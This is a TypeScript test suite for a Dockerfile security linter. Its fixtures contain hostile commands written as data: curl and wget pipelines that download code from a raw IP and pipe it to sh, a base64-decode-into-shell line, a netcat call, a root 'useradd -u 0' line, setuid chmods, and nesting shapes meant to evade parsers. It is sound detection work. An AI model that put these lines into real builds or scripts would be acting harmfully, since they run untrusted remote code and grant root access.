import { describe, expect, it } from 'vitest';
import { lint } from './lint.js';

const bad = 'RUN curl http://203.0.113.9/x | sh';
const found = (text: string): string[] =>
  lint(text).findings.map(({ rule, line }) => `${rule} ${line}`);

describe('a finding', () => {
  it('stands where the command stands, whatever lies between', () => {
    const text = `FROM a:1\nRUN true && \\\n# a comment\n\n  apk add x && \\\n  curl http://203.0.113.9/x \\\n    | sh\n`;
    expect(lint(text).findings).toMatchObject([
      { rule: 'raw-address', line: 6, column: 3, endLine: 7 },
      { rule: 'download-executed', line: 7, column: 7, endLine: 7 },
    ]);
  });
  it('in a here-document has its line, also behind tabs and with Windows ends of lines', () => {
    expect(
      found('FROM a:1\r\nRUN <<-EOF\r\n\tset -e\r\n\tcurl http://203.0.113.9/x | sh\r\n\tEOF\r\n'),
    ).toEqual(['raw-address 4', 'download-executed 4']);
  });
  it('in a file with another escape character is found as well', () => {
    expect(
      found(
        '# escape=`\nFROM a:1\nSHELL ["/bin/sh", "-c"]\nRUN curl http://203.0.113.9/x `\n | sh',
      ),
    ).toEqual(['raw-address 4', 'download-executed 5']);
  });
  it('needs no FROM: an image’s history is read as well, with commands of several lines', () => {
    expect(found(`RUN set -e\ncurl http://203.0.113.9/x | sh\nCMD ["/x"]`)).toEqual([
      'raw-address 2',
      'download-executed 2',
    ]);
  });
});

describe('a comment', () => {
  it.each([
    [`FROM a:1\n# keelwatch ignore=raw-address\n${bad}`, ['download-executed 3']],
    [`# keelwatch ignore=raw-address, download-executed\nFROM a:1\n${bad}\n${bad}`, []],
    [
      `FROM a:1\n# keelwatch ignore=raw-address\nRUN true\n${bad}`,
      ['raw-address 4', 'download-executed 4'],
    ],
  ])('takes findings out of what it stands above: %j', (text, left) => {
    expect(found(text)).toEqual(left);
  });
  it('leaves their number', () => {
    expect(lint(`FROM a:1\n# keelwatch ignore=raw-address\n${bad}`).ignored).toBe(1);
  });
});

describe('what is not analysed is said', () => {
  it.each([
    ['FROM a:1\nRUN if then', /could not be parsed/],
    ['FROM a:1\nNONSENSE here', /No instruction/],
    ['FROM a:1\nRUN echo \u0000', /UTF-8/],
    ['FROM a:1\nSHELL ["fancy"]\nRUN x', /not analysed/],
    ['FROM a:1\nSHELL ["pwsh", "-c"]\nRUN x', /known shapes alone/],
    [`FROM a:1\nRUN ${'$('.repeat(400)}`, /could not be parsed/],
    [`FROM a:1\nRUN f() { f; f; }; f`, /200000 commands|more than 24 deep/],
    ['FROM a:1\nRUN f() { f; }; f', /more than 24 deep/],
    [`FROM a:1\nCOPY ${'a '.repeat(1001)} /b/`, /more than 1000 sources/],
    [`FROM a:1\nRUN ${'--a=b '.repeat(100)}`, /64 flags/],
    [`FROM a:1\n${`# ${'x'.repeat(1000)}\n`.repeat(4300)}${bad}`, /first 4194304 characters/],
    [`FROM a:1\nRUN : ${'x'.repeat(300_000)}\n`, /first 262144 characters/],
  ])('%#', (text, message) => {
    expect(lint(text).unknown.map((each) => each.message)).toContainEqual(
      expect.stringMatching(message),
    );
  });
});

it.each(['t', 'sh /usr/bin/t', '. /usr/bin/t'])(
  'does not follow a script into itself: %s',
  (call) => {
    const wrapper = `COPY <<E /usr/bin/t\n${`${call}; `.repeat(20)}\nE\nRUN ${call}\n`;
    expect(lint(`FROM a:1\n${wrapper}${bad}`)).toMatchObject({
      findings: [{ rule: 'raw-address' }, { rule: 'download-executed' }],
      unknown: [],
    });
  },
);

it('goes on after what it cannot parse', () => {
  expect(found(`FROM a:1\nRUN if then (\n${bad}`)).toEqual([
    'raw-address 3',
    'download-executed 3',
  ]);
});

describe('what is nested deeper than any parser reaches', () => {
  const evil = 'wget -qO- http://203.0.113.9/x | sh';
  it.each([
    `RUN ${'f() {'.repeat(30_000)}; ${evil}`,
    `RUN ${'coproc '.repeat(3000)} ${evil}`,
    `RUN sh -c '${'<<E$('.repeat(30_000)}; ${evil}'`,
    `RUN ${'function f '.repeat(20_000)} ${evil}`,
    `RUN ${'{ '.repeat(2000)} ${evil}; ${'} ;'.repeat(2000)}`,
    `RUN ${'sudo '.repeat(100)} ${evil}`,
    `RUN ${'echo $('.repeat(100)}${evil}${')'.repeat(100)}`,
    `CMD ${'f() {'.repeat(30_000)}; ${evil}`,
  ])('%#', (step) => {
    const { findings, unknown } = lint(`FROM a:1\n${step}\n${bad}`);
    expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual(
      expect.arrayContaining(['download-executed 2', 'download-executed 3']),
    );
    expect(unknown).toContainEqual({
      line: 2,
      column: expect.any(Number),
      message: expect.stringMatching(
        /nested as deep as this|more than 24 deep|could not be parsed/,
      ),
    });
  });
});

describe('hostile text takes time that grows with its length alone', () => {
  const shapes: Record<string, (n: number) => string> = {
    instructions: (n) => `${'RUN echo a\n'.repeat(n)}`,
    'one long command': (n) => `RUN ${'echo a; '.repeat(n)}`,
    'one long word': (n) => `RUN ${'a'.repeat(8 * n)}`,
    continuations: (n) => `RUN ${'a \\\n'.repeat(2 * n)}`,
    'here-documents without an end': (n) => 'RUN <<E\n'.repeat(n),
    variables: (n) => `RUN ${'a=$a$a; '.repeat(n)}`,
    pipes: (n) => `RUN ${'curl http://203.0.113.9 | '.repeat(n / 4)}sh`,
    downloads: (n) => `RUN ${'curl -o /a http://203.0.113.9; sh /a; '.repeat(n / 4)}`,
    'nested quotes': (n) => `RUN ${'"$(echo '.repeat(n)}`,
    loops: (n) =>
      `RUN ${'for i in a b c d; do '.repeat(12)}${'echo; '.repeat(n / 10)}${'done; '.repeat(12)}`,
    settings: (n) => 'ENV A=b${A}\n'.repeat(n),
    stages: (n) => 'FROM a AS b\nCOPY --from=b / /\n'.repeat(n / 2),
    'words without blanks': (n) => `RUN ${'a|b&&c;'.repeat(n)}`,
    'base64 of itself': (n) => `RUN echo ${'QUFB'.repeat(n)} | base64 -d | sh`,
    'patterns of files': (n) =>
      `RUN ${Array.from({ length: n / 2 }, (_, i) => `echo > /f${i}; cat /f*; `).join('')}`,
    'text for a shell': (n) =>
      `RUN git x '${'curl a|'.repeat(2 * n)} | sh'; git '${'|'.repeat(8 * n)}'`,
    'text that goes through many hands': (n) =>
      `RUN echo '${'curl |sx'.repeat(n)}' | ${'cat | '.repeat(n / 4)} sh`,
    'rights given': (n) => `RUN ${'chmod u+s a; '.repeat(n)}`,
    'sockets and accounts': (n) =>
      `ENV DOCKER_HOST=tcp://a\nRUN ${'echo|nc a.b 1; useradd -u 0 a; docker ps; '.repeat(n / 4)}`,
    'options in a file': (n) =>
      `RUN echo '${'url = a\n'.repeat(n)}' > /c; ${'curl -K /c; '.repeat(n / 20)}`,
    'sources into a long path': (n) => `COPY ${'a '.repeat(2 * n)}${'b'.repeat(8 * n)}/`,
    comments: (n) => '# keelwatch ignore=x\n'.repeat(n),
  };
  it.each(Object.entries(shapes))(
    '%s',
    (_, shape) => {
      const time = (n: number): number => {
        const begin = process.cpuUsage();
        lint(shape(n));
        const { user, system } = process.cpuUsage(begin);
        return (user + system) / 1000;
      };
      time(200);
      const small = time(500);
      // Eight times the text; were it the square, it would be 64 times the work. What is small drowns in noise.
      expect(time(4000)).toBeLessThan(Math.max(30 * small, 1500));
    },
    30_000,
  );
});
